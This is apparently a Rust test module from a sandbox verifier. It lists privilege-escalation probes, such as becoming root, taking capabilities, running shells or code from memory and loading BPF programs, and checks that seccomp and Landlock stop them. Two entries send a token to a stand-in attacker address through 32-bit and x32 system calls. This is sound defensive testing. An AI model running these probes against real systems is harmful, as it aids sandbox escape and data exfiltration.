//! Gaining rights, or more of the kernel: other users, capabilities, programs, system call entries.

use std::process::Command;

use super::call::{ask, at, family, inet, permitted};
use super::{Aim, Failure, INET, Layer, Technique};
use crate::sys::attempt;
use crate::sys::attempt::probe::{self, Arg, Bpf};
use crate::verify::ground::ATTACKER;

pub(super) const ROWS: &[Technique] = &[
    gain("become-root", "setresuid to root", "46", RIGHTS, |_| {
        ask(probe::SETRESUID, &[Arg::Number(0); 3])
    }),
    gain("join-groups", "setgroups", "46", RIGHTS, |_| {
        ask(probe::SETGROUPS, &[Arg::Number(1), Arg::Bytes(&[0; 4])])
    }),
    gain("take-capability", "capset: CAP_NET_RAW", "46", RIGHTS, |_| {
        const NET_RAW: u32 = 1 << 13;
        let header: Vec<u8> = [0x2008_0522_u32, 0].iter().flat_map(|w| w.to_ne_bytes()).collect();
        let sets = [NET_RAW, NET_RAW, 0, 0, 0, 0];
        let sets: Vec<u8> = sets.iter().flat_map(|word: &u32| word.to_ne_bytes()).collect();
        ask(probe::CAPSET, &[Arg::Bytes(&header), Arg::Bytes(&sets)])
    }),
    gain("run-program", "start a program", "46", PROGRAMS, |_| {
        start("/bin/sh").map_err(at("exec"))
    }),
    gain("run-from-memory", "start a program that is no file", "46", PROGRAMS, |_| {
        // Not a program: that is said to those who may start one.
        let file = probe::memory_file(b"no program").map_err(at("memfd_create"))?;
        let file = Arg::Number(std::os::fd::AsRawFd::as_raw_fd(&file).into());
        let empty_path = Arg::Number(libc::AT_EMPTY_PATH.into());
        let call = [file, Arg::Text(c""), Arg::Null, Arg::Null, empty_path];
        permitted("execveat", probe::call(probe::EXECVEAT, &call))
    }),
    gain("new-code", "memory that can be executed", "46", SECCOMP, |_| {
        probe::executable_memory(false).map_err(at("mmap"))
    }),
    gain("new-code-later", "memory made executable afterwards", "46", SECCOMP, |_| {
        probe::executable_memory(true).map_err(at("mprotect"))
    }),
    gain("personality", "another execution domain", "45", SECCOMP, |_| {
        const READ_IMPLIES_EXEC: i64 = 0x0040_0000;
        ask(probe::PERSONALITY, &[Arg::Number(READ_IMPLIES_EXEC)])
    }),
    Technique::wire("i386-socket", "UDP by the 32-bit system calls", "45", ENTRIES, |a| {
        // A kernel without them would end the process.
        if std::fs::exists("/proc/sys/abi/vsyscall32").is_ok_and(|exists| !exists) {
            return Err(at("int-0x80")(std::io::Error::from_raw_os_error(libc::ENOSYS)));
        }
        entered(a, "int-0x80", attempt::probe::socket_i386)
    })
    .optional(),
    Technique::wire("x32-socket", "UDP by the x32 system calls", "45", ENTRIES, |a| {
        entered(a, "socket-x32", attempt::probe::socket_x32)
    })
    .optional(),
    gain("dump-core", "a core file, or the program that gets it", "48", SECCOMP, |_| {
        use nix::sys::resource::{Resource, setrlimit};
        setrlimit(Resource::RLIMIT_CORE, 1 << 20, 1 << 20).map_err(at("setrlimit"))
    }),
    gain("be-read", "let others of the user read its memory", "33", SECCOMP, |_| {
        nix::sys::prctl::set_dumpable(true).map_err(at("prctl"))
    }),
    gain("speak-by-name", "15 bytes in the name that all can read", "48", SECCOMP, |a| {
        let name = std::ffi::CString::new(&a.token.as_bytes()[..15]).map_err(at("name"))?;
        nix::sys::prctl::set_name(&name).map_err(at("prctl"))
    }),
    gain("speak-by-file", "the same name, by its file", "48", FILES, |a| {
        std::fs::write("/proc/thread-self/comm", &a.token).map_err(at("open"))
    }),
    gain("bpf-load", "load a program into the kernel", "43", RIGHTS, |_| {
        probe::bpf(Bpf::Load).map_err(at("bpf"))
    }),
    gain("bpf-map", "make a map", "43", RIGHTS, |_| probe::bpf(Bpf::Map).map_err(at("bpf"))),
    gain("bpf-find", "find the kernel's programs by number", "43", RIGHTS, |_| {
        permitted("bpf", probe::bpf(Bpf::Next))
    }),
    gain("bpf-pin", "open a pinned link", "43 44", RIGHTS, |_| {
        // None is pinned there.
        permitted("bpf", probe::bpf(Bpf::Pin(c"/sys/fs/bpf/prxy-no-such-link")))
    }),
    gain("bpf-detach", "detach a link", "43", RIGHTS, |_| {
        permitted("bpf", probe::bpf(Bpf::Detach))
    }),
];

const fn gain(
    name: &'static str,
    what: &'static str,
    threat: &'static str,
    layers: &'static [Layer],
    act: fn(&Aim) -> Result<(), Failure>,
) -> Technique {
    Technique::calls(name, what, threat, layers, act).root_may(ROOT)
}

#[expect(clippy::disallowed_methods, reason = "an attempt tries what prxy never does")]
fn start(program: &str) -> std::io::Result<()> {
    Command::new(program).args(["-c", ":"]).status().map(drop)
}

/// A datagram on a socket that was opened by another entry of the kernel.
fn entered(
    aim: &Aim,
    name: &'static str,
    socket: fn(i32, i32, i32) -> std::io::Result<std::os::fd::OwnedFd>,
) -> Result<(), Failure> {
    let fd = socket(family(ATTACKER), libc::SOCK_DGRAM, 0).map_err(at(name))?;
    let address = inet(ATTACKER, 443);
    attempt::sendto(&fd, aim.token.as_bytes(), 0, Some(&address)).map_err(at("sendto")).map(drop)
}

const RIGHTS: &[Layer] = &[Layer::Seccomp, Layer::Capability];
const FILES: &[Layer] = &[Layer::Seccomp, Layer::Landlock];
const SECCOMP: &[Layer] = &[Layer::Seccomp];
const PROGRAMS: &[Layer] = &[Layer::Seccomp, Layer::Landlock];
const ENTRIES: &[Layer] = INET;
const ROOT: &str = "the kernel's policy judges packets; no role is root with rights";
